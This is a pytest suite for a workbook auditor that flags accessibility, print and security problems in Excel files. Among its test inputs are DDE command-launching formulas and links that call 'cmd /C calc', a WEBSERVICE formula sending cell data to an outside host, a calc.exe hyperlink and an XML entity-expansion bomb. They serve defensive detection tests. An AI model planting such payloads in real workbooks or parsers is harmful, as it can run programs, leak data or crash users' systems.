"""An audit finds each thing that keeps a workbook from being read, heard, printed or trusted, and nothing else."""

from __future__ import annotations

import io
import json
import re
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from openpyxl.styles import Font, PatternFill
from openpyxl.styles.colors import Color

from audited_books import ALT, ROWS, SHEET, Draft, Make, adding, edit_parts, replacing, write_book
from esser_gap import Audit, InputError, audit_workbook
from esser_gap.auditing.auditor import CHECKS
from esser_gap.auditing.findings import Finding, Level
from esser_gap.auditing.functions import known_functions
from esser_gap.auditing.number_formats import COLORS, shown
from esser_gap.auditing.part_order import STYLES, WORKBOOK, WORKSHEET
from esser_gap.auditing.rules import RULES
from esser_gap.cli.app import main
from esser_gap.write.audit_reference import audit_reference
from spreadsheets import write_ods

if TYPE_CHECKING:
    from collections.abc import Callable

DOCS = Path(__file__).parents[1] / "docs"
SHEET_PART, CHART_PART = "xl/worksheets/sheet1.xml", "xl/charts/chart1.xml"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def audited(folder: Path, **changed: Any) -> Audit:
    return audit_workbook(write_book(folder / "book.xlsx", Make(**changed)))


def broken(audit: Audit) -> list[str]:
    return list(dict.fromkeys(finding.rule for finding in audit.findings))


def the(audit: Audit) -> Finding:
    (finding,) = audit.findings
    return finding


# --------------------------------------------------------------------------- one broken thing at a time


def _after(*cells: tuple[int, int, Any], **look: Any) -> Callable[[Draft], None]:
    """Write cells into the good workbook, all with one format."""

    def then(draft: Draft) -> None:
        style = draft.format(**look)
        for row, column, value in cells:
            draft.sheet.write(row, column, value, style)

    return then


def _formula(text: str, value: Any = 1, row: int = 1) -> Callable[[Draft], None]:
    return lambda draft: draft.sheet.write_formula(row, 2, text, None, value)


def _merge(draft: Draft) -> None:
    draft.sheet.merge_range(5, 0, 6, 0, "Item 5")


def _leave_blank_row(draft: Draft) -> None:
    for row in range(ROWS + 1, ROWS + 4):
        draft.sheet.write_string(row, 0, "Item")
        draft.sheet.write_number(row, 1, 5)


def _hide(draft: Draft) -> None:
    other = draft.book.add_worksheet("Workings")
    other.hide()


def _picture(draft: Draft) -> None:
    # The smallest picture there is.
    dot = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f6"
        "45400000000049454e44ae426082"
    )
    draft.sheet.insert_image(20, 4, "dot.png", {"image_data": io.BytesIO(dot), "description": "dot.png"})


def _neighbour(draft: Draft) -> None:
    draft.sheet.write_string(3, 0, "A long name of an item that does not fit into its column at all")


def _flat_row(draft: Draft) -> None:
    draft.sheet.set_row(3, 16)
    draft.sheet.write_string(3, 0, "a text of many words " * 8, draft.format(text_wrap=True))


def _all_text(draft: Draft) -> None:
    for row in range(1, ROWS):
        draft.sheet.write_string(row, 1, f"{1000 + row:,}")


def _external_part(parts: dict[str, bytes]) -> None:
    rels = "xl/_rels/workbook.xml.rels"
    part = "externalLinks/externalLink1.xml"
    one = f'<Relationship Id="rId90" Type="{LINK}/externalLink" Target="{part}"/></Relationships>'
    parts[rels] = parts[rels].replace(b"</Relationships>", one.encode())
    target = (
        f'<Relationship Id="rId1" Type="{LINK}/externalLinkPath" Target="file:///C:/b.xlsx" TargetMode="External"/>'
    )
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink><externalBook/></externalLink>"
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = f"<Relationships>{target}</Relationships>".encode()
    kinds = b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="text/xml"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", kinds)


def _dde_link(parts: dict[str, bytes]) -> None:
    _external_part(parts)
    del parts["xl/externalLinks/_rels/externalLink1.xml.rels"]
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    parts["xl/externalLinks/externalLink1.xml"] = link


def _swap(parts: dict[str, bytes]) -> None:
    """Put the widths of columns before the usual height of rows."""
    content = parts[SHEET_PART].decode()
    start, end = content.index("<sheetFormatPr"), content.index("<cols>")
    widths_end = content.index("</cols>") + len("</cols>")
    parts[SHEET_PART] = (content[:start] + content[end:widths_end] + content[start:end] + content[widths_end:]).encode()


BROKEN: list[tuple[str, str, dict[str, Any]]] = [
    ("document-title", "no title", {"title": ""}),
    ("document-title", "the title `Book1` says nothing", {"title": "Book1"}),
    ("document-language", "no language", {"language": ""}),
    ("document-language", "`English!` names no language", {"language": "English!"}),
    ("sheet-name", "`Sheet1` is the name that a program gave it", {"name": "Sheet1"}),
    ("sheet-name", "`Tabelle 2` is the name that a program gave it", {"name": "Tabelle 2"}),
    ("header-row", "no row of the table is marked as its header", {"header": {}, "frozen": False}),
    ("header-row", "no heading above column C", {"headings": ("Item", "Cost", "")}),
    ("merged-cells", "merged cells inside a table", {"then": _merge}),
    ("table-spacing", "blank rows inside a table", {"then": _leave_blank_row}),
    ("alt-text", "no alt text", {"alt": None}),
    ("alt-text", "the alt text `Chart 1` says nothing", {"alt": "Chart 1"}),
    ("alt-text", "the alt text `dot.png` says nothing", {"then": _picture}),
    ("chart-title", "no title", {"chart_title": None}),
    ("contrast", "1.60:1, #CCCCCC on #FFFFFF", {"then": _after((3, 0, "pale"), font_color="#CCCCCC")}),
    (
        "contrast",
        "1.92:1, #000000 on #7A1022",
        {"then": _after((3, 0, "dark"), bg_color="#7A1022", font_color="#000000")},
    ),
    ("contrast", "3.99:1, #FF0000 on #FFFFFF", {"then": _after((3, 1, -5), num_format="#,##0;[Red]-#,##0")}),
    (
        "color-alone",
        "the number format `#,##0;[Blue]#,##0`",
        {"then": _after((3, 1, 5), num_format="#,##0;[Blue]#,##0")},
    ),
    ("print-width", "columns to L print about 2 pages wide, landscape", {"wide": None, "then": _after((3, 11, "x"))}),
    ("print-size", "prints at about 17% of its size", {"then": lambda draft: draft.sheet.set_column(2, 2, 700)}),
    (
        "print-headings",
        "a table longer than a page, whose headings are not repeated",
        {"repeated": False},
    ),
    ("page-numbers", "no page number in the footer or header", {"footer": "&CBoard packet && &D"}),
    ("print-area", "140 blank rows above", {"then": _after((ROWS + 140, 0, "left over"))}),
    ("frozen-panes", f"{ROWS - 1} rows below the header", {"frozen": False}),
    ("formula-value", "a formula without a stored result", {"then": _formula("=B2*2", "")}),
    ("functions", "XLOOKUP, which came with Excel 2021", {"then": _formula("=_xlfn.XLOOKUP(A2,A3:A9,B3:B9)")}),
    ("functions", "TEXTJOIN, which came with Excel 2019", {"then": _formula('=_xlfn.TEXTJOIN(",",1,A2:A3)')}),
    ("volatile", "TODAY", {"then": _formula("=TODAY()-B2")}),
    ("volatile", "OFFSET", {"then": _formula("=SUM(OFFSET(B2,0,0,3,1))")}),
    ("error-value", "the error #REF!", {"then": _formula("=#REF!", "#REF!")}),
    ("external-links", "it refers to `file:///C:/b.xlsx`", {"edit": _external_part}),
    ("external-links", "it asks `cmd` for data", {"edit": _dde_link}),
    ("external-links", "a formula that refers to another file", {"then": _formula("=[1]Budget!A1")}),
    ("data-connections", "a connection to data outside", {"edit": adding(a=("xl/connections.xml", "<connections/>"))}),
    (
        "data-connections",
        "queries (Power Query)",
        {"edit": adding(a=("customXml/item1.xml", "<DataMashup>AAAA</DataMashup>"))},
    ),
    ("macros", "macros", {"edit": adding(a=("xl/vbaProject.bin", "x"))}),
    ("macros", "macros", {"edit": adding(a=("xl/macrosheets/sheet1.xml", "<macrosheet/>"))}),
    ("macros", "embedded files", {"edit": adding(a=("xl/embeddings/oleObject1.bin", "x"))}),
    (
        "text-that-runs",
        "the formula `=cmd|'/C calc'!A0` asks another program (DDE)",
        {"then": _formula("=cmd|'/C calc'!A0")},
    ),
    (
        "text-that-runs",
        "WEBSERVICE reaches outside of the workbook",
        {"then": _formula('=WEBSERVICE("https://example.org/?x="&A2)')},
    ),
    (
        "text-that-runs",
        "HYPERLINK leads to `file:///C:/Windows/system32/calc.exe`",
        {"then": _formula('=HYPERLINK("file:///C:/Windows/system32/calc.exe","click")')},
    ),
    (
        "text-that-runs",
        "the formula `=cmd|'/C calc'!A0` asks another program (DDE)",
        {"edit": replacing(CHART_PART, "<c:f>'Costs by year'!$B$2:$B$6</c:f>", "<c:f>cmd|'/C calc'!A0</c:f>")},
    ),
    (
        "text-that-runs",
        "the formula `=1+1` stands where other rows have text",
        {"then": lambda draft: draft.sheet.write_formula(3, 0, "=1+1", None, 2)},
    ),
    (
        "text-that-runs",
        "a link to `file:///C:\\Users\\me\\budget.xlsx`",
        {"then": lambda draft: draft.sheet.write_url(3, 0, "external:C:/Users/me/budget.xlsx", None, "the budget")},
    ),
    ("hidden-sheet", "hidden", {"then": _hide}),
    ("number-as-text", "a number stored as text", {"then": _all_text}),
    ("text-cut-off", "text is cut off by the cell beside it", {"then": _neighbour}),
    ("text-cut-off", "text needs more lines than its row has room for", {"then": _flat_row}),
    ("number-cut-off", "a figure wider than its column", {"then": _after((3, 1, 10**12), num_format="#,##0.00")}),
    ("protection", "protected", {"then": lambda draft: draft.sheet.protect()}),
    ("repair", "`sheetFormatPr` stands after `cols`", {"edit": _swap}),
    ("repair", "the part is missing", {"edit": lambda parts: parts.pop("xl/theme/theme1.xml")}),
    (
        "repair",
        "its look is not among the styles",
        {"edit": replacing(SHEET_PART, '<c r="A1" s="1"', '<c r="A1" s="99"')},
    ),
    ("repair", "its text is not among the shared ones", {"edit": replacing(SHEET_PART, "<v>4</v>", "<v>4444</v>")}),
    ("repair", "cells stand out of order", {"edit": replacing(SHEET_PART, 'r="B3"', 'r="B2"')}),
]


def test_the_good_workbook_has_nothing_to_mend(tmp_path: Path) -> None:
    audit = audited(tmp_path)
    assert audit.findings == ()
    assert audit.passes(strict=True)
    assert audit.sheets == (SHEET,)


@pytest.mark.parametrize(
    ("rule", "found", "changed"), BROKEN, ids=lambda value: value if isinstance(value, str) else ""
)
def test_one_broken_thing_is_found_and_nothing_else(
    rule: str, found: str, changed: dict[str, Any], tmp_path: Path
) -> None:
    audit = audited(tmp_path, **changed)
    assert [(finding.rule, finding.found) for finding in audit.findings] == [(rule, found)]
    fails = next(each for each in RULES if each.id == rule).level is Level.FAIL
    assert audit.passes() is not fails
    assert not audit.passes(strict=True)


def test_every_rule_has_a_check_and_a_workbook_that_breaks_it() -> None:
    assert [rule.id for rule in RULES] == list(CHECKS) == list(dict.fromkeys(rule for rule, _, _ in BROKEN))


# --------------------------------------------------------------------------- what looks alike and is fine


@pytest.mark.parametrize(
    "changed",
    [
        pytest.param({"header": {}, "frozen": True}, id="a frozen row is a header"),
        pytest.param(
            {"header": {}, "frozen": False, "then": lambda draft: draft.sheet.autofilter(0, 0, ROWS - 1, 2)},
            id="a filtered row is a header, though its rows still scroll",
        ),
        pytest.param(
            {"then": lambda draft: draft.sheet.merge_range(ROWS + 5, 0, ROWS + 5, 2, "A note over several columns")},
            id="a note may be merged",
        ),
        pytest.param({"then": _after((3, 1, -5), num_format="#,##0;[Blue](#,##0)")}, id="parentheses beside a color"),
        pytest.param({"then": _after((3, 1, 5), num_format="#,##0;[Red]-#,##0")}, id="red only where it applies"),
        pytest.param({"then": _after((3, 0, "big"), font_color="#767676", font_size=18)}, id="large text needs less"),
        pytest.param(
            {"then": _after((3, 0, "white"), font_color="#FFFFFF", bg_color="#1F2933")}, id="white on a dark fill"
        ),
        pytest.param({"then": _formula('=IF(A2="cmd|x","TODAY(","no")', "no")}, id="text in a formula is only text"),
        pytest.param({"then": _formula('=HYPERLINK("https://example.org","page")')}, id="a link to a web page"),
        pytest.param({"then": _formula('=HYPERLINK("#\'Costs by year\'!A1","up")')}, id="a link to a cell"),
        pytest.param(
            {"then": lambda draft: draft.sheet.write_url(3, 0, "mailto:board@example.org", None, "the board")},
            id="a mail address",
        ),
        pytest.param({"then": _formula('=A2&""', "Item 1")}, id="a result that is text"),
        pytest.param(
            {"then": _formula('=""', "?"), "edit": replacing(SHEET_PART, '<f>""</f><v>?</v>', '<f>""</f><v></v>')},
            id="a result that is blank text",
        ),
        pytest.param({"then": _after((3, 0, "1,200"), num_format="@")}, id="a number among names"),
        pytest.param({"wide": None, "landscape": False, "alt": None, "edit": None}, id="narrow and portrait"),
        pytest.param({"alt": f"{ALT} It ends.jpg or not"}, id="a long text with a file name in it"),
    ],
)
def test_what_only_looks_broken_passes(changed: dict[str, Any], tmp_path: Path) -> None:
    allowed = {"alt-text"} if "alt" in changed and changed["alt"] is None else set()
    audit = audited(tmp_path, **changed)
    assert set(broken(audit)) - {"frozen-panes"} == allowed, audit.findings


HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tafter a tab",
    "007",
    '"quoted"',
    "'apostrophe",
    "<r><t>not & rich</r>",
    "x" * 300,
    "مدرسة النور",
    "backpacks \N{SCHOOL SATCHEL}",
    "first line\nsecond line",
    "_x000D_",
    "TRUE",
    "#REF!",
)


def test_text_that_is_stored_as_text_passes_whatever_it_begins_with(tmp_path: Path) -> None:
    def then(draft: Draft) -> None:
        wrapped = draft.format(text_wrap=True)
        for row, text in enumerate(HOSTILE[1:-1], 1):
            # XlsxWriter would take the one for its own rich text.
            if not text.startswith("<r>"):
                draft.sheet.write_string(row, 0, text, wrapped)

    assert audited(tmp_path, then=then).findings == ()


# --------------------------------------------------------------------------- colors


def test_theme_colors_tints_and_the_old_palette_are_resolved(tmp_path: Path) -> None:
    path = tmp_path / "colors.xlsx"
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    looks = [
        (Color(theme=1), None, True),
        (Color(theme=0), None, False),
        (Color(theme=0, tint=-0.5), None, False),
        (Color(theme=0), Color(theme=4, tint=-0.5), True),
        (Color(theme=0), Color(theme=4, tint=0.8), False),
        (Color(indexed=13), None, False),
        (Color(indexed=18), None, True),
        (Color(indexed=64), None, True),
    ]
    for row, (ink, fill, _) in enumerate(looks, 1):
        cell = sheet.cell(row, 1, f"text {row}")
        cell.font = Font(color=ink)
        if fill is not None:
            cell.fill = PatternFill("solid", fgColor=fill)
    book.save(path)
    found = {finding.place for finding in audit_workbook(path).findings if finding.rule == "contrast"}
    assert found == {f"A{row}" for row, (_, _, is_fine) in enumerate(looks, 1) if not is_fine}


def test_colors_of_runs_and_of_conditional_formats_count(tmp_path: Path) -> None:
    def then(draft: Draft) -> None:
        pale, usual = draft.format(font_color="#DDDDDD"), draft.format(font_color="#000000")
        draft.sheet.write_rich_string(3, 0, "seen ", pale, "unseen", usual, "!")
        draft.sheet.conditional_format("B2:B9", {"type": "cell", "criteria": ">", "value": 5, "format": pale})
        scale = {"type": "2_color_scale", "min_color": "#FFFFFF", "max_color": "#202020"}
        draft.sheet.conditional_format("B20:B30", scale)

    found = [(finding.place, finding.found) for finding in audited(tmp_path, then=then).findings]
    assert found == [
        ("A4", "1.35:1, #DDDDDD on #FFFFFF"),
        ("B2", "1.35:1 in a conditional format, #DDDDDD on #FFFFFF"),
        ("B20", "1.28:1 in a conditional format, #000000 on #202020"),
    ]


def test_cells_under_the_style_of_a_table_are_passed_over(tmp_path: Path) -> None:
    def then(draft: Draft) -> None:
        white = draft.format(bold=True, font_color="#FFFFFF")
        headings = [{"header": text, "header_format": white} for text in ("Item", "Cost", "Change")]
        draft.sheet.add_table(0, 0, ROWS - 1, 2, {"columns": headings, "style": "Table Style Medium 2"})

    assert audited(tmp_path, then=then).findings == ()


@pytest.mark.parametrize(
    ("value", "number_format", "expected"),
    [
        (1234567.891, "#,##0.00", "1,234,567.89"),
        (-1234.5, "#,##0_);(#,##0)", "(1,234)"),
        (-5, "0", "-5"),
        (0.256, "0.0%", "25.6%"),
        (2500000, '$0.0,,"M"', "$2.5M"),
        (3, '"FY"0', "FY3"),
        (5, "General", None),
        (5, "@", None),
        (45000, "yyyy-mm-dd", None),
    ],
)
def test_a_number_is_written_about_as_its_format_shows_it(
    value: float, number_format: str, expected: str | None
) -> None:
    assert shown(value, number_format) == expected


# --------------------------------------------------------------------------- other programs


def test_a_workbook_of_openpyxl_fails_for_what_it_lacks(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    rows: list[list[Any]] = [["Item", "Cost"], ["Filter", 1200], ["Switches", 900], ["Total", "=SUM(B2:B3)"]]
    for row in rows:
        book.worksheets[0].append(row)
    book.save(tmp_path / "book.xlsx")
    audit = audit_workbook(tmp_path / "book.xlsx")
    wanted = ["document-title", "sheet-name", "header-row", "page-numbers", "formula-value", "document-language"]
    assert broken(audit) == wanted
    assert audit.failures == audit.findings[:5]
    assert audit.warnings == audit.findings[5:]


def test_zeros_that_a_program_stores_without_calculating_are_told(tmp_path: Path) -> None:
    def then(draft: Draft) -> None:
        for row in range(1, ROWS):
            draft.sheet.write_formula(row, 2, f"=B{row + 1}*2")

    finding = the(audited(tmp_path, then=then))
    assert (finding.rule, finding.place, finding.count) == ("formula-value", "C2", ROWS - 1)
    assert finding.found == "every formula has 0 stored, as programs write that do not calculate"


def test_the_same_in_many_cells_is_one_finding_with_their_number(tmp_path: Path) -> None:
    finding = the(audited(tmp_path, then=_all_text))
    assert (finding.sheet, finding.place, finding.count) == (SHEET, "B2", ROWS - 1)


def test_prefixed_tags_and_cells_without_addresses_are_read(tmp_path: Path) -> None:
    path = write_book(tmp_path / "book.xlsx")
    edit_parts(path, _prefix)
    assert audit_workbook(path).findings == ()


def _prefix(parts: dict[str, bytes]) -> None:
    text = parts[SHEET_PART].decode()
    text = re.sub(r"<(/?)([a-zA-Z])", r"<\1x:\2", text).replace("xmlns=", "xmlns:x=")
    parts[SHEET_PART] = re.sub(r'<x:c r="[A-Z]+\d+"', "<x:c", text).encode()


# --------------------------------------------------------------------------- what cannot be read


def test_other_files_are_refused_with_the_reason(tmp_path: Path) -> None:
    ods = write_ods(tmp_path / "book.ods", {"Costs": [["Item", "Cost"], ["Filter", 5]]})
    text = tmp_path / "book.csv"
    text.write_text("Item,Cost\nFilter,5\n", encoding="utf-8")
    missing, cut = tmp_path / "missing.xlsx", tmp_path / "cut.xlsx"
    whole = write_book(tmp_path / "book.xlsx").read_bytes()
    cut.write_bytes(whole[: len(whole) // 2])
    codes = {}
    for path in (ods, text, missing, cut):
        with pytest.raises(InputError) as refused:
            audit_workbook(path)
        codes[path.name] = [issue.code for issue in refused.value.issues]
    assert codes == {
        "book.ods": ["format-unknown"],
        "book.csv": ["file-not-a-workbook"],
        "missing.xlsx": ["file-missing"],
        "cut.xlsx": ["file-not-a-workbook"],
    }


BOMB = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>'


@pytest.mark.parametrize(
    "content",
    [
        f"<?xml version='1.0'?>{BOMB}<worksheet><sheetData/>&c;</worksheet>",
        f"<?odd > <a ?>{BOMB}<worksheet/>",
        "<worksheet>" + "<a>" * 500 + "</a>" * 500 + "</worksheet>",
        "<worksheet><sheetData><row r='1'><c r='XXXX1'><v>1</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData>",
    ],
)
def test_parts_made_to_harm_are_taken_as_damaged(content: str, tmp_path: Path) -> None:
    path = write_book(tmp_path / "book.xlsx")
    edit_parts(path, lambda parts: parts.update({SHEET_PART: content.encode()}))
    with pytest.raises(InputError, match="damaged"):
        audit_workbook(path)


def test_more_cells_than_can_be_looked_at_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from esser_gap.auditing import cells

    path = write_book(tmp_path / "book.xlsx")
    monkeypatch.setattr(cells, "MAX_FILLED", 100)
    with pytest.raises(InputError, match="more cells"):
        audit_workbook(path)


# --------------------------------------------------------------------------- the command


def run(*words: str) -> int:
    with pytest.raises(SystemExit) as ended:
        main(["audit", *words])
    assert isinstance(ended.value.code, int)
    return ended.value.code


@pytest.fixture
def books(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    write_book(tmp_path / "good.xlsx")
    write_book(tmp_path / "warned.xlsx", Make(frozen=False))
    write_book(tmp_path / "bad.xlsx", Make(alt=None))
    return tmp_path


@pytest.mark.parametrize(
    ("words", "status"),
    [
        ("good.xlsx", 0),
        ("good.xlsx --strict", 0),
        ("warned.xlsx", 0),
        ("warned.xlsx --strict", 1),
        ("bad.xlsx", 1),
        ("good.xlsx bad.xlsx", 1),
        ("missing.xlsx", 2),
        ("bad.xlsx missing.xlsx", 2),
        ("bad.xlsx --format json", 1),
        ("--rules", 0),
        ("--rules --format json", 0),
        ("", 2),
    ],
)
@pytest.mark.usefixtures("books")
def test_the_exit_status_says_whether_something_fails(words: str, status: int) -> None:
    assert run(*words.split()) == status


@pytest.mark.usefixtures("books")
def test_what_was_found_is_shown_with_what_to_do(capsys: pytest.CaptureFixture[str]) -> None:
    run("good.xlsx", "bad.xlsx", "missing.xlsx")
    shown_text, said = capsys.readouterr()
    assert "good.xlsx passes: 1 sheet held against 30 rules, nothing to mend" in shown_text
    assert "bad.xlsx fails: 1 failure on 1 sheet held against 30 rules" in shown_text
    assert "chart at E2  no alt text" in shown_text
    assert "say in a sentence or two what it shows" in shown_text
    assert "there is no such file" in said


@pytest.mark.usefixtures("books")
def test_json_has_every_finding(capsys: pytest.CaptureFixture[str]) -> None:
    run("bad.xlsx", "warned.xlsx", "--format", "json")
    document = json.loads(capsys.readouterr().out)
    assert document["schema"] == "esser-gap/audit/1"
    bad, warned = document["files"]
    assert (bad["name"], bad["passes"], bad["failures"], bad["warnings"]) == ("bad.xlsx", False, 1, 0)
    assert (warned["passes"], warned["failures"], warned["warnings"]) == (True, 0, 1)
    assert bad["findings"] == [
        {
            "rule": "alt-text",
            "level": "fail",
            "sheet": SHEET,
            "place": "chart at E2",
            "found": "no alt text",
            "count": 1,
            "do": next(rule.do for rule in RULES if rule.id == "alt-text"),
        }
    ]


def test_rules_are_listed_with_their_criteria(capsys: pytest.CaptureFixture[str]) -> None:
    run("--rules", "--format", "json")
    rules = json.loads(capsys.readouterr().out)["rules"]
    assert [rule["id"] for rule in rules] == [rule.id for rule in RULES]
    assert rules[6]["basis"] == "1.1.1 Non-text Content (A)"
    run("--rules")
    assert "1.4.3 Contrast (Minimum) (AA)" in capsys.readouterr().out


# --------------------------------------------------------------------------- the rules themselves


def test_the_page_of_rules_is_up_to_date() -> None:
    page = (DOCS / "audit.md").read_text(encoding="utf-8")
    assert page == audit_reference(), "run python -m esser_gap.write.audit_reference > docs/audit.md"


def test_rules_are_written_alike() -> None:
    assert len({rule.id for rule in RULES}) == len(RULES)
    for rule in RULES:
        assert rule.title[0].isupper()
        assert rule.why[0].isupper()
        assert rule.do[0].islower()
        assert not any(text.endswith(".") for text in (rule.title, rule.why, rule.do))


def test_the_order_of_elements_is_whole() -> None:
    for order in (WORKSHEET, WORKBOOK, STYLES):
        assert len(set(order)) == len(order)
    assert WORKSHEET[5] == "sheetData"
    assert ("pageMargins", "pageSetup") in set(pairwise(WORKSHEET))


def test_functions_are_in_capitals_and_each_is_listed_once() -> None:
    known = known_functions()
    names = [*known.since, *known.volatile, *known.outside]
    assert all(name == name.upper() for name in names)
    assert {"SUM", "SUMIFS", "INDEX", "MATCH", "IFERROR", "EDATE", "CHOOSE"}.isdisjoint(names)
    assert COLORS["red"] == (255, 0, 0)
